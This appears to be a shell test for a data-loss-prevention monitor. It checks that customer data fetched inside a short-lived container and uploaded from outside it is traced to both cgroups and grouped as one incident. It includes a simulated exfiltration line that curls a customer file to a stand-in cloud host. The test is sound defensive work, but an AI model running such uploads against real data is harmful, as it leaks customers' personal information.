#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Customer data is fetched in a container and leaves by another program outside of it: one story,
# in which each app says where it ran, and no name of a cgroup says who a person is.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves pan.test

cgroups=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
if [ -z "$cgroups" ]; then
	cgroups=$(mktemp -d /tmp/weir-cgroups-XXXXXX)
	mounts+=("$cgroups")
	if ! mount -t cgroup2 cgroup2 "$cgroups"; then
		ok "# SKIP this kernel has no cgroup2"
		exit 0
	fi
fi
slice=$cgroups/user-$employee_uid.slice
container=$slice/libpod-1a2b.scope
cgroup_folders+=("$slice" "$container")
mkdir "$slice" "$container" || give_up "cgroups are made"
weir_watches

in_the_container() { # COMMAND...: as the employee, in namespaces of its own
	(
		echo "$BASHPID" >"$container/cgroup.procs" &&
			alice unshare --user --pid --fork "$@" >"$work/container.out" 2>&1 </dev/null
	) || give_up "what runs in the container: $(cat "$work/container.out")"
}

# One second, in which a busy machine comes to ask what a container is called.
in_the_container sh -c 'curl -sS -o customer.json https://crm.test/policy/P2020555555; sleep 1'
rmdir "$container" || give_up "the container is gone"
alice_does <<'END'
curl -sS -F file=@customer.json https://pan.test/upload
END
soon "what left is known to be customer data" \
	events_say "any(e['kind'] == 'egress' and e['object'].get('zone') == 'pan.test' for e in d)"
soon "who fetched it says its container, which is gone, and no uid" \
	events_say "{e['app'].get('cgroup') for e in d if e['kind'] == 'crm_access'} ==
		{'/user-~.slice/libpod-1a2b.scope'}"
then_it "its pid is the host's" \
	events_say "all(e['app']['pid'] > 100 for e in d if e['kind'] == 'crm_access')"
own=$(sed -nE 's/^0:://p' /proc/self/cgroup | sed -E 's,/user(-|@)[0-9]+\.s,/user\1~.s,g')
then_it "who sent it says where it ran itself" \
	events_say "{e['app'].get('cgroup', '/') for e in d if e['kind'] == 'egress'} == {'$own'}"
soon "one incident holds both" \
	incidents_say "len(d) == 1 and [s['name'] for s in d[0]['sinks']] == ['pan.test']"
weir_stops
